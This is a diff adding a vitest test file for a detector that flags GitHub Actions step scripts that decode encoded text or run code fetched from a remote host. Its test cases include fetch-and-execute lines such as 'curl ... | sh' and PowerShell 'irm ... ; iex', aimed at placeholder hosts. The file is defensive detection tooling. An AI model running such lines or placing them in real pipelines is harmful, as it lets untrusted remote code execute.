@@ -1,0 +1,97 @@
+import { expect, test } from "vitest";
+import {
+  followSources,
+  type Source,
+  sourceAt,
+} from "../../../../rules/capabilities/github-step/script-sources.ts";
+import { runsOf } from "../../../../rules/capabilities/github-step/remote-runs.ts";
+import { scriptsIn } from "./granted.ts";
+
+const POWERSHELL = "        shell: pwsh\n";
+
+/** The names of what a script runs. */
+function runIn(script: string, rest = ""): string[] {
+  return scriptsIn(script, rest)
+    .flatMap(runsOf)
+    .map(({ source }) => source.name);
+}
+
+/** What the first command of a script hands on. */
+function carriedBy(script: string, rest = ""): readonly Source[] {
+  return scriptsIn(script, rest).flatMap((commands) => followSources(commands).carried[0] ?? []);
+}
+
+test.each([
+  ["base64 -d x"],
+  ["base64 -di x"],
+  ["base64 -id x"],
+  ["base64 -D x"],
+  ["base64 -w 0 --decode x"],
+  ["base64 --dec x"],
+  ["base64 --d x"],
+  ["base32 -d x"],
+  ["openssl base64 -d"],
+  ["xxd -r x"],
+  ["xxd -p -r x"],
+  ["xxd -pr x"],
+])("%s decodes", (script) => {
+  expect(carriedBy(script)).toMatchObject([{ name: "encoded text", level: "mutable" }]);
+});
+
+test.each([
+  ["base64 x"],
+  ["base64 x-d"],
+  ["base64 -d1"],
+  ["base32 x"],
+  ["openssl enc -in x-d"],
+  ["openssl enc -debug"],
+  ["xxd my-archive"],
+  ["xxd -p x"],
+  ["jq -r .script x"],
+])("%s decodes nothing", (script) => {
+  expect(carriedBy(script)).toEqual([]);
+});
+
+test.each([
+  ["true; (curl https://x.example; echo a) | sh"],
+  ["curl -K - <<< 'url = https://x.example/i' | sh"],
+  ['SCRIPT=$(curl https://x.example)\nsh -c "$SCRIPT"'],
+  ['A=1 B=$(curl https://x.example)\nsh -c "$B"'],
+  ['S=$(curl https://x.example)\nsh -c "$OPTIONS; $S"'],
+  ['sh -c "$(curl https://x.example; curl https://y.example)"'],
+])("%s runs what it has from a host", (script) => {
+  expect(runIn(script)).toEqual(["x.example"]);
+});
+
+test("a variable of PowerShell holds what it held where it is only changed", () => {
+  const script = "$s = irm https://x.example; $s = 'a;' + $s; iex $s";
+  expect(runIn(script, POWERSHELL)).toEqual(["x.example"]);
+});
+
+test.each([
+  ["curl https://x.example; true | sh"],
+  ['true | python - "$(curl https://x.example)"'],
+  ['() | python - "$(curl https://x.example)"'],
+  ['A=1 B=$(curl https://x.example)\nsh -c "$A"'],
+  ['A=1 curl https://x.example\nsh -c "$A"'],
+])("%s runs nothing that it has from a host", (script) => {
+  expect(runIn(script)).toEqual([]);
+});
+
+test("the URL of a command behind it is none of a request's that names none", () => {
+  expect(runIn("curl -K c | sh\necho https://y.example")).toEqual(["an unknown host"]);
+});
+
+test("twenty places of one command are told apart", () => {
+  const hosts = Array.from({ length: 20 }, (_, index) => `${index}.example`);
+  expect(carriedBy(`curl ${hosts.join(" ")}`).map(({ name }) => name)).toEqual(hosts);
+});
+
+test("a method that downloads a text saves no file", () => {
+  const script = "$c.DownloadString('https://x.example')";
+  expect(carriedBy(script, POWERSHELL)).toMatchObject([{ name: "x.example", savedAs: null }]);
+});
+
+test("a source that is not known is told by the command that asks for it", () => {
+  expect(sourceAt(null, 3, 5)).toMatchObject({ row: 3, commands: { from: 5, to: 6 } });
+});
